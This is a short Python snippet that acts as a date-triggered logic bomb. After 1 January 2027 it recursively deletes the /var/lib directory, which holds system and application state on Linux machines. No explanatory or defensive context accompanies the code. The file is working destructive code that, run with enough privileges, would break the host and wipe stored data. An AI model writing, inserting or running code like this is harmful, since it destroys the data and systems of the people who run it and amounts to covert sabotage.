import datetime, shutil
if datetime.date.today() > datetime.date(2027, 1, 1):
    shutil.rmtree("/var/lib")
